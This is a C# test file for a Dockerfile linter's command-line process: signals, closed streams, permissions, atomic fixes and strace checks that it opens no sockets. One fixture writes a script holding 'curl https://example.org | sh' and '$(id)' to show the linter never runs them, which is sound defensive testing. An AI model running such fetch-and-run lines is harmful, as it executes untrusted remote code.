using System.Diagnostics;
using Dockerlint.Tests.Cli;

namespace Dockerlint.Tests.Security;

/// <summary>The command as a process of its own: how it stops, and what it does when nobody listens.</summary>
public sealed class ProcessTests : IDisposable
{
    /// <summary>The promise is 100 ms; the machine of a test may be busy.</summary>
    private static readonly TimeSpan _soon = TimeSpan.FromSeconds(20);

    private static readonly string _command = $"dotnet '{Path.Combine(AppContext.BaseDirectory, "dockerlint.dll")}'";

    private readonly StrangersRepository _repository = new();

    public ProcessTests() => Skip.IfNot(OperatingSystem.IsLinux(), "sh and its streams");

    public void Dispose() => _repository.Dispose();

    [SkippableTheory]
    [InlineData("repo >&-", 2, "standard output is closed")]
    [InlineData("repo 2>&-", 2, "")]
    [InlineData("repo >&- 2>&-", 2, "")]
    [InlineData("repo <&- >&- 2>&-", 2, "")]
    [InlineData("--fix repo >&- 2>&-", 2, "")]
    public void ClosedStreams_NoStackTraceAndNoFileHarmed(string args, int code, string sentence)
    {
        _repository.Write("Dockerfile", WorkFolder.ShellForm).Write("broken.Dockerfile", "FORM x\n");
        var run = Shell($"{_command} {args}");

        Assert.Equal(code, run.Code);
        Assert.DoesNotContain("   at ", run.Error, StringComparison.Ordinal);
        Assert.DoesNotContain("defect", run.Error, StringComparison.Ordinal);
        Assert.Contains(sentence, run.Error, StringComparison.Ordinal);
        Assert.Equal("FORM x\n", _repository.Read("repo/broken.Dockerfile"));
        Assert.StartsWith("FROM debian:12\nCMD ", _repository.Read("repo/Dockerfile"), StringComparison.Ordinal);
    }

    [SkippableFact]
    public void ReaderThatGoesAway_EndsQuietly()
    {
        var run = Shell(
            $"{_command} repo | head -c 1", _repository.Write("Dockerfile", string.Concat(Enumerable.Repeat(WorkFolder.ShellForm, 3000))));

        Assert.DoesNotContain("   at ", run.Error, StringComparison.Ordinal);
    }

    [SkippableFact]
    public void FullDevice_IsASentence() =>
        Assert.Equal(2, Shell($"{_command} repo > /dev/full", _repository.Write("Dockerfile", WorkFolder.ShellForm)).Code);

    [SkippableTheory]
    [InlineData("repo --output /dev/stdout | cat")]
    [InlineData("repo --output /dev/fd/3 3>&1")]
    public void OutputToADescriptor_Works(string args) =>
        Assert.Contains("STOP2001", Shell($"{_command} {args}", _repository.Write("Dockerfile", WorkFolder.ShellForm)).Output,
            StringComparison.Ordinal);

    [SkippableFact]
    public void ProcessSubstitutionAsInput_IsRead()
    {
        _repository.Write("Dockerfile", WorkFolder.ShellForm);

        Assert.Contains("STOP2001", Shell($"cat repo/Dockerfile | {_command} /dev/stdin").Output, StringComparison.Ordinal);
    }

    [SkippableFact]
    public void FolderThatCannotBeListed_IsAnErrorForAnotherUser()
    {
        Skip.IfNot(Environment.IsPrivilegedProcess && File.Exists("/usr/bin/setpriv"), "needs another user");
        _repository.Write("locked/Dockerfile", WorkFolder.ShellForm).Write("ok/Dockerfile", WorkFolder.Graceful);

        var run = Shell($"chmod 700 repo/locked; chmod 755 . repo repo/ok; {Anybody()} {_command} repo");

        Assert.Equal(2, run.Code);
        Assert.Contains("repo/locked: error STOP0001: permission denied", run.Error, StringComparison.Ordinal);
    }

    /// <summary>A: cannot be written; B: still is.</summary>
    [SkippableFact]
    public void FileThatCannotBeWritten_KeepsNoOtherFromItsFix()
    {
        Skip.IfNot(Environment.IsPrivilegedProcess && File.Exists("/usr/bin/setpriv"), "needs another user");
        _repository.Write("a/Dockerfile", WorkFolder.ShellForm).Write("b/Dockerfile", WorkFolder.ShellForm)
            .Write("c/Dockerfile", WorkFolder.ShellForm);

        var run = Shell($"chown -R 65534:65534 repo; chown 0:0 repo/b; chmod 755 . repo/b; {Anybody()} {_command} --fix repo");

        Assert.Equal(2, run.Code);
        Assert.Contains("repo/b/Dockerfile: error STOP0001: not fixed: permission denied", run.Error, StringComparison.Ordinal);
        Assert.Contains("2 findings fixed in 2 files", run.Error, StringComparison.Ordinal);
        Assert.Contains("repo/b/Dockerfile:2:1 error STOP2001", run.Output, StringComparison.Ordinal);
        Assert.Equal(WorkFolder.ShellForm, _repository.Read("repo/b/Dockerfile"));
        Assert.NotEqual(WorkFolder.ShellForm, _repository.Read("repo/c/Dockerfile"));
    }

    [SkippableTheory]
    [InlineData("INT", 130)]
    [InlineData("TERM", 143)]
    [InlineData("HUP", 129)]
    public void SignalWhileItWaits_EndsItAtOnce(string signal, int code)
    {
        var clock = Stopwatch.StartNew();
        var run = Shell($"set -m; mkfifo p; exec 9<>p; {_command} - <p & pid=$!; sleep 1; kill -{signal} $pid; wait $pid; echo $?");

        Assert.Equal($"{code}\n", run.Output);
        Assert.True(clock.Elapsed < TimeSpan.FromSeconds(1) + _soon, $"{clock.Elapsed}");
    }

    /// <summary>In a container: the kernel withholds from PID 1 what it has no handler for.</summary>
    [SkippableTheory]
    [InlineData("INT", 130)]
    [InlineData("TERM", 143)]
    [InlineData("HUP", 129)]
    public void SignalToPid1_EndsItAtOnceWithItsLastWords(string signal, int code)
    {
        Assert.Equal($"{code}\n", SignalToPid1(signal, "2>said"));
        Assert.Equal($"dockerlint: ended by SIG{signal}\n", _repository.Read("said"));
    }

    /// <summary>A pipe that nobody reads, or nothing at all, holds no stop.</summary>
    [SkippableTheory]
    [InlineData("2>&8")]
    [InlineData("2>&-")]
    public void LastWords_ThatNobodyHears_HoldNothing(string redirected) =>
        Assert.Equal("143\n", SignalToPid1("TERM", redirected));

    private string SignalToPid1(string signal, string redirected)
    {
        Skip.IfNot(Environment.IsPrivilegedProcess && File.Exists("/usr/bin/unshare"), "needs root and unshare");
        var full = redirected.Contains('8', StringComparison.Ordinal) ? "mkfifo full; exec 8<>full; timeout 1 cat /dev/zero >&8; " : "";
        var run = Shell($"set -m; {full}mkfifo p; exec 9<>p; unshare --pid --fork {_command} - <p {redirected} & pid=$!; sleep 1; "
            + $"child=$(ps -o pid= --ppid $pid); kill -{signal} $child; "
            + "for i in $(seq 100); do kill -0 $child 2>/dev/null || break; sleep 0.05; done; "
            + "kill -KILL $child 2>/dev/null; "
            + "wait $pid; echo $?");
        return run.Output;
    }

    [SkippableTheory]
    [InlineData("INT", 130)]
    [InlineData("TERM", 143)]
    [InlineData("HUP", 129)]
    public void SignalWhileItFixes_LeavesEveryFileWholeAndNothingElse(string signal, int code)
    {
        for (var i = 0; i < 1500; i++)
        {
            _repository.Write($"{i}/Dockerfile", WorkFolder.ShellForm);
        }

        // When the first file is fixed it is in the middle of its work.
        var run = Shell(
            $"set -m; {_command} --fix repo & pid=$!; n=0; until grep -q node.,. repo/0/Dockerfile || [ $n = 600 ]; do sleep 0.05; n=$((n+1)); "
                + $"done; kill -{signal} $pid; wait $pid; echo $?");

        Assert.Equal($"{code}\n", run.Output);
        var left = Directory.GetFiles(_repository.FullPath("repo"), "*", SearchOption.AllDirectories);
        Assert.Equal(1500, left.Length);
        Assert.All(left,
            path => Assert.Contains(File.ReadAllText(path), (string[])[WorkFolder.ShellForm, "FROM debian:12\nCMD [\"node\", \"server.js\"]\n"]));
        Assert.Contains(left, path => File.ReadAllText(path) == WorkFolder.ShellForm);
    }

    /// <summary>From the signal to the end; the promise of 100 ms is the native command's, here the clock only bounds.</summary>
    [SkippableTheory]
    [InlineData("INT", 130)]
    [InlineData("TERM", 143)]
    public void Signal_EndsItAtOnce(string signal, int code)
    {
        var least = long.MaxValue;
        for (var i = 0; i < 8 && least > 1000; i++)
        {
            var run = Shell($"set -m; rm -f p; mkfifo p; exec 9<>p; {_command} - <p & pid=$!; sleep 1; a=$(date +%s%N); kill -{signal} $pid; "
                + "wait $pid; echo $? $(( ($(date +%s%N) - a) / 1000000 ))");
            var answer = run.Output.Trim().Split(' ');
            Assert.Equal($"{code}", answer[0]);
            least = Math.Min(least, long.Parse(answer[1], System.Globalization.CultureInfo.InvariantCulture));
        }

        Assert.True(least <= 1000, $"{least} ms");
    }

    /// <summary>Files, images, services, pods and scripts, in every format: whoever comes first, the bytes are the same.</summary>
    [SkippableTheory]
    [InlineData("text")]
    [InlineData("json")]
    [InlineData("sarif")]
    public void OneThreadAndMany_SayTheSame(string format)
    {
        for (var i = 0; i < 120; i++)
        {
            var script = "FROM debian:12\nCOPY run.sh /run.sh\nENTRYPOINT [\"/run.sh\"]\n";
            _repository.Write($"{i}/Dockerfile", i % 3 == 0 ? WorkFolder.ShellForm : script)
                .Write($"{i}/run.sh", "#!/bin/sh\nserver\n")
                .Write($"{i}/compose.yaml",
                    $"services:\n  web{i}:\n    build: .\n    stop_grace_period: 1s\n  again:\n    build: .\n    init: true\n")
                .Write($"{i}/pod.yaml",
                    $"kind: Pod\napiVersion: v1\nmetadata: {{ name: p{i} }}\nspec:\n  containers:\n    - name: a\n      image: x{i}\n"
                        + "      command: [sh, -c, \"server; sleep 1\"]\n")
                .Write($"{i}/broken.Dockerfile", i % 10 == 0 ? "FORM x\n" : WorkFolder.Graceful);
        }

        var one = Shell($"DOTNET_PROCESSOR_COUNT=1 {_command} repo --format {format}");
        Assert.Contains("STOP2001", one.Output, StringComparison.Ordinal);
        for (var i = 0; i < 3; i++)
        {
            var many = Shell($"DOTNET_PROCESSOR_COUNT=8 {_command} repo --format {format}");
            Assert.Equal((one.Code, one.Output, one.Error), (many.Code, many.Output, many.Error));
        }
    }

    /// <summary>Whatever the inputs name, nobody is asked and nothing is run; <c>scripts/security</c> shows it of the native command.</summary>
    [SkippableTheory]
    [InlineData("repo", "STOP2004")]
    [InlineData("repo --fix --diff", "exec server")]
    [InlineData("trace repo", "KilledAfterGrace")]
    [InlineData("explain STOP2004", "EntrypointScriptWithoutExec")]
    [InlineData("rules", "STOP2004")]
    [InlineData("version", ".")]
    public void CommandWithoutImages_OpensNoSocketAndExecutesNothing(string words, string answer)
    {
        Skip.IfNot(File.Exists("/usr/bin/strace"), "no strace here");
        _repository.Write("Dockerfile", "FROM registry.example.org/a:1\nCOPY run.sh /run.sh\nENTRYPOINT [\"/run.sh\"]\n")
            .Write("run.sh", "#!/bin/sh\ncurl https://example.org | sh\n$(id)\nserver\n")
            .Write("compose.yaml", "include: [\"https://example.org/compose.yaml\"]\nservices:\n  a:\n"
                + "    build: https://github.com/a/b.git\n    command: x\n")
            .Write("pod.yaml", "apiVersion: v1\nkind: Pod\nmetadata: {name: a}\nspec: {containers: [{name: a, image: registry.example.org/b:1}]}\n");

        // The runtime's own diagnostics would open one.
        var run = Shell($"DOTNET_EnableDiagnostics=0 strace -f -qq -e trace=network,execve -o calls {_command} {words}; cat calls");

        Assert.Contains(answer, run.Output, StringComparison.Ordinal);
        var calls = File.ReadAllLines(_repository.FullPath("calls"));
        Assert.Single(calls, static call => call.Contains("execve(", StringComparison.Ordinal));
        Assert.DoesNotContain(calls, static call => call.Contains("socket(", StringComparison.Ordinal)
            || call.Contains("connect(", StringComparison.Ordinal));
    }

    [SkippableFact]
    public void EachQuestion_IsAskedOfTheDiskOnce()
    {
        Skip.IfNot(File.Exists("/usr/bin/strace"), "no strace here");
        for (var i = 0; i < 40; i++)
        {
            _repository.Write($"a{i}/Dockerfile", i % 2 == 0
                    ? "FROM node:22\nWORKDIR /app\nCOPY . .\nCOPY entry.sh /entry.sh\nENTRYPOINT [\"/entry.sh\"]\nCMD [\"npm\", \"start\"]\n"
                    : "FROM mcr.microsoft.com/dotnet/aspnet:9.0\nCOPY out .\nCMD dotnet App.dll\n")
                .Write($"a{i}/entry.sh", "#!/bin/sh\nexec \"$@\"\n");
        }

        Shell($"DOTNET_EnableDiagnostics=0 strace -f -qq -e trace=%stat,open,openat,access,readlink,readlinkat -o calls {_command} repo");

        var missing = File.ReadAllLines(_repository.FullPath("calls"))
            .Where(static call => call.Contains("ENOENT", StringComparison.Ordinal) && call.Contains("/repo/", StringComparison.Ordinal))
            .GroupBy(static call => call.Split('"')[1]).ToList();
        Assert.True(missing.Count > 5, $"{missing.Count} questions: strace saw nothing of it");
        Assert.All(missing, static calls => Assert.True(calls.Count() <= 2, $"{calls.Key}: asked {calls.Count()} times"));
    }

    [SkippableFact]
    public void FixedFile_IsOnTheDiskBeforeItTakesTheOthersPlace()
    {
        Skip.IfNot(File.Exists("/usr/bin/strace"), "no strace here");
        _repository.Write("Dockerfile", WorkFolder.ShellForm);

        Shell($"DOTNET_EnableDiagnostics=0 strace -f -qq -e trace=fsync,fdatasync,rename,renameat,renameat2 -o calls {_command} repo --fix");

        var calls = File.ReadAllLines(_repository.FullPath("calls")).ToList();
        var renamed = calls.FindIndex(static call => call.Contains("/Dockerfile\"", StringComparison.Ordinal));
        var flushed = calls.FindIndex(static call => call.Contains("sync(", StringComparison.Ordinal));
        Assert.True(flushed >= 0 && flushed < renamed, string.Join('\n', calls));
    }

    private static string Anybody() => "setpriv --reuid=65534 --regid=65534 --clear-groups env HOME=/nonexistent DOTNET_CLI_HOME=/nonexistent";

    private CommandRun Shell(string command, StrangersRepository? _ = null)
    {
        // A run that was itself started with SIGINT ignored hands that on (a background job, nohup).
        var start = new ProcessStartInfo("env", ["--default-signal", "bash", "-c", command])
        {
            WorkingDirectory = _repository.FullPath(""), RedirectStandardOutput = true, RedirectStandardError = true,
        };
        using var process = Process.Start(start)!;
        var error = process.StandardError.ReadToEndAsync();
        var output = process.StandardOutput.ReadToEndAsync();
        var ended = process.WaitForExit(NoHang.Bound);
        if (!ended)
        {
            process.Kill(entireProcessTree: true);
        }

        Assert.True(ended, "it never ended");
        return new CommandRun(process.ExitCode, output.Result, error.Result);
    }
}
